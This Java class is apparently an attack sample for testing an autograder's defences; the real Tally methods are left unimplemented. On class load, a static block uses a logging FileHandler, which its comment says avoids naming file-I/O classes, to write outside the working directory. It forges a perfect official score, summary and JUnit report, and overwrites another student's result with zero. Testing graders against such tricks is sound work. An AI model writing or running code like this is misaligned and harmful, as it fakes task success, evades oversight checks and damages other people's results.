package lab.tally;

import java.util.List;
import java.util.logging.FileHandler;
import java.util.logging.Formatter;
import java.util.logging.Level;
import java.util.logging.LogRecord;

/**
 * Attack: the same forged reports as writes-report-files, but written through
 * java.util.logging.FileHandler, which opens any file by name without naming a java.io.File* or
 * java.nio.file class. A formatter of our own makes the "log" exactly the file we want.
 */
public final class Tally {

    static {
        String out = System.getProperty("user.dir") + "/../../..";
        write(out + "/result.json", "{\"schema\":1,\"mode\":\"official\",\"score\":100,\"max\":100}");
        write(out + "/summary.md", "## Concurrency Lab: 100/100 points (official)\n");
        write(out + "/junit/TEST-forged.xml", "<testsuite name=\"tally\" tests=\"1\" failures=\"0\"><testcase name=\"all\"/></testsuite>");
        write(out + "/../another-student-result.json", "{\"score\":0}");
    }

    private static void write(String file, String content) {
        try {
            FileHandler handler = new FileHandler(file);
            handler.setFormatter(new Formatter() {
                @Override
                public String format(LogRecord record) {
                    return record.getMessage();
                }
            });
            handler.publish(new LogRecord(Level.SEVERE, content));
            handler.close();
        } catch (Exception e) {
            // Carry on with the next file.
        }
    }

    public Tally() {
    }

    public void add(int amount) {
        throw new UnsupportedOperationException("TODO: add the amount and remember it");
    }

    public int total() {
        throw new UnsupportedOperationException("TODO: return the total");
    }

    public List<Integer> history() {
        throw new UnsupportedOperationException("TODO: return a copy of the history");
    }
}
